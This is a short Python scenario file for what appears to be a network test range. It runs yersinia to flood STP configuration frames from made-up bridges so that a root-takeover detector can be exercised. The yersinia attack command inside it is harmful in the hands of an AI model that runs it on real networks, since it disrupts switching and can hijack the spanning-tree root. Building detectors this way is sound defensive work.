"""yersinia floods switches with bridges that do not exist."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.link.throttle import throttle


def run(net: Range) -> None:
    core = net.core_switch()
    attacker = net.inside("attacker")
    throttle(attacker, 500)
    net.everyday()
    net.quiet(3)
    with net.attack(
        "stp-root-takeover",
        by=attacker,
        victims=[core.mac],
        attacker_known=False,
        frames="ether dst 01:80:c2:00:00:00",
    ):
        # It goes on as long as its input does.
        net.tool(attacker, "sh", "-c", "sleep 2.5 | yersinia stp -attack 2 -interface eth0", seconds=8)
    net.quiet(4)


SCENARIO = Scenario(
    name="stp-root-takeover-flood",
    about="yersinia floods the network with configuration messages of made-up bridges.",
    detectors=("stp-root-takeover",),
    tools={"yersinia": "yersinia"},
    run=run,
)
